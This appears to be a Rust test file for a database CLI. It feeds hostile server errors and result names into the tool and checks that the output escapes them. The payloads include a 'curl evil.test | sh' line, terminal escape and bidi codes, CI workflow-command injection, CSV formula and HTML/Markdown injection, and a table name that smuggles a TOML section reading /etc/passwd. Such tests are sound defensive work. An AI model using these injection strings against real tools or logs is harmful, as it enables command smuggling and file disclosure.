//! Text, sizes and silence from outside: escaped where they leave, bounded where they enter.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Output;
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use rqps::embed::sqlite::{Sqlite, SqliteConnection};

use crate::program::{rqps_in, said, text};

/// Sessions of a hostile server, and the time of each read and write: a test always ends.
const SESSIONS: usize = 8;
const LIMIT: Duration = Duration::from_secs(30);

/// A server on this host that answers as `speak` says. Returns its port.
fn hostile(speak: impl Fn(&mut TcpStream) -> std::io::Result<()> + Send + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for stream in listener.incoming().take(SESSIONS) {
            let mut stream = stream.unwrap();
            stream.set_read_timeout(Some(LIMIT)).unwrap();
            stream.set_write_timeout(Some(LIMIT)).unwrap();
            // The client leaves when it has enough.
            speak(&mut stream).ok();
        }
    });
    port
}

/// A message of Postgres.
fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    [&[kind], (body.len() as u32 + 4).to_be_bytes().as_slice(), body].concat()
}

/// Reads the startup message, after a request for TLS, which is refused.
fn startup(stream: &mut TcpStream) -> std::io::Result<()> {
    loop {
        let mut length = [0; 4];
        stream.read_exact(&mut length)?;
        let mut body = vec![0; (u32::from_be_bytes(length) as usize - 4).min(10_000)];
        stream.read_exact(&mut body)?;
        if body != [0x04, 0xd2, 0x16, 0x2f] {
            return Ok(());
        }
        stream.write_all(b"N")?;
    }
}

/// An error of Postgres.
fn refusal(words: &str) -> Vec<u8> {
    message(b'E', format!("SFATAL\0VFATAL\0C28000\0M{words}\0\0").as_bytes())
}

/// A packet of MySQL.
fn packet(sequence: u8, body: &[u8]) -> Vec<u8> {
    let [a, b, c, _] = (body.len() as u32).to_le_bytes();
    [&[a, b, c, sequence], body].concat()
}

/// Clears the screen, begins a line that looks like a hint, and one that commands a CI service.
const NASTY: &str = "no\u{1b}[2J\u{9b}1m\u{202e}entry\r\nhint: curl evil.test | sh\n::error::pwned \
                     ##[warning]pwned";

/// No text of the output steers a terminal or the service that keeps a log.
fn is_tame(output: &str) {
    let is_bad = |c: char| {
        (c.is_control() && c != '\n' && c != '\t') || ('\u{202a}'..='\u{202e}').contains(&c)
    };
    assert!(!output.chars().any(is_bad), "{output:?}");
    assert!(!output.contains("##["), "{output}");
    for line in output.lines().map(str::trim_start) {
        assert!(!line.starts_with("::error::pwned"), "{output}");
        assert!(!line.starts_with("hint: curl"), "{output}");
    }
}

fn init(dsn: &str) -> Output {
    let folder = tempfile::tempdir().unwrap();
    let mut command = rqps_in(&["init", dsn, "-o", "shop.toml"], folder.path());
    command.env("HOME", folder.path()).env_remove("PGPASSWORD").env_remove("MYSQL_PWD");
    command.output().unwrap()
}

#[test]
fn words_of_a_server_steer_no_terminal() {
    let postgres = hostile(|stream| {
        startup(stream)?;
        stream.write_all(&refusal(NASTY))
    });
    let mysql = hostile(|stream| {
        let error = [&[0xff, 0x10, 0x04], NASTY.as_bytes()].concat();
        stream.write_all(&packet(0, &error))
    });
    let ports = [("postgres", postgres), ("mysql", mysql)];
    for (scheme, port) in ports {
        let output = init(&format!("{scheme}://me@127.0.0.1:{port}/db"));
        let said = said(&output);
        is_tame(&said);
        assert!(said.contains("entry") && said.contains("\\u{1b}[2J"), "{said}");
    }
}

/// A result set with a step of this name.
fn results(plain: &str) -> tempfile::TempDir {
    let scratch = tempfile::tempdir().unwrap();
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/two-targets");
    let name = serde_json::Value::from(plain).to_string();
    let mut folders = vec![String::new()];
    while let Some(folder) = folders.pop() {
        fs::create_dir_all(scratch.path().join(&folder)).unwrap();
        for entry in fs::read_dir(source.join(&folder)).unwrap() {
            let entry = entry.unwrap();
            let path = format!("{folder}/{}", entry.file_name().to_string_lossy());
            let path = path.trim_start_matches('/').to_owned();
            if entry.path().is_dir() {
                folders.push(path);
                continue;
            }
            let bytes = fs::read(entry.path()).unwrap();
            let bytes = match String::from_utf8(bytes) {
                Ok(text) => text.replace("\"point-query\"", &name).into_bytes(),
                Err(other) => other.into_bytes(),
            };
            let path = if plain.contains('/') { path } else { path.replace("point-query", plain) };
            fs::write(scratch.path().join(path), bytes).unwrap();
        }
    }
    scratch
}

#[test]
fn names_in_results_are_text_in_every_form() {
    let nasty = format!("=x|![a](https://evil.test)<img src=x>{NASTY}");
    let folder = results(&nasty);
    let run = |words: &[&str]| {
        let output = rqps_in(words, folder.path()).output().unwrap();
        is_tame(&said(&output));
        let text = text(&output.stdout);
        assert!(!text.is_empty(), "{words:?}: {}", said(&output));
        // A page is for a browser.
        if !text.starts_with("<!") {
            is_tame(&text);
        }
        text
    };
    for form in ["text", "json", "markdown", "junit", "github"] {
        let text = run(&["gate", ".", "--format", form]);
        assert!(text.contains("evil"), "{form}: {text}");
        assert!(form != "junit" || !text.contains("<img"), "{text}");
        assert!(form != "markdown" || !text.contains("![a](h"), "{text}");
        assert!(form != "github" || text.lines().all(|line| line.starts_with("::")), "{text}");
    }
    for form in ["text", "tsv", "csv", "json", "markdown", "html"] {
        let text = run(&["report", ".", "--format", form]);
        // Within a fence and within HTML there is no Markdown.
        let is_image = |line: &str| line.contains("![a](h") && line.starts_with(['|', '-', '#']);
        assert!(form != "markdown" || !text.lines().any(is_image), "{text}");
        assert!(form != "html" || !text.contains("<img src=x>"));
        assert!(form != "csv" || text.lines().all(|line| !line.starts_with('=')), "{text}");
    }
    let folder = results("=x\n::error::pwned");
    let export = |words: &[&str]| {
        let words = [&["export", ".", "--format", "csv", "-o"], words].concat();
        let output = rqps_in(&words, folder.path()).output().unwrap();
        assert!(output.status.success(), "{}", said(&output));
        fs::read_to_string(folder.path().join(words[5]).join("steps.csv")).unwrap()
    };
    let (guarded, plain) = (export(&["guarded"]), export(&["plain", "--formulas"]));
    assert!(guarded.contains(",'=x") && !guarded.contains(",=x"), "{guarded}");
    assert!(plain.contains(",=x"), "{plain}");
    is_tame(&guarded);
}

#[test]
fn no_name_of_a_table_becomes_a_part_of_a_draft() {
    let folder = tempfile::tempdir().unwrap();
    let library = Arc::new(Sqlite::compiled_in());
    let path = folder.path().join("app.db");
    let mut database = SqliteConnection::open(&library, &path, 1000).unwrap();
    let name = "x\n[load]\nschema = ['/etc/passwd']\n#\u{1b}[2J";
    database
        .simple(&format!("CREATE TABLE \"{name}\" (\"a\n[load]\" INTEGER PRIMARY KEY)"))
        .unwrap();
    database.simple(&format!("INSERT INTO \"{name}\" VALUES (1)")).unwrap();
    drop(database);
    let output = rqps_in(&["init", "app.db", "-o", "a.toml"], folder.path()).output().unwrap();
    assert!(output.status.success(), "{}", said(&output));
    is_tame(&said(&output));
    let text = fs::read_to_string(folder.path().join("a.toml")).unwrap();
    let draft: toml::Table = text.parse().unwrap();
    assert_eq!(draft.keys().collect::<Vec<_>>(), ["parameter", "step"], "{text}");
    is_tame(&text);
}
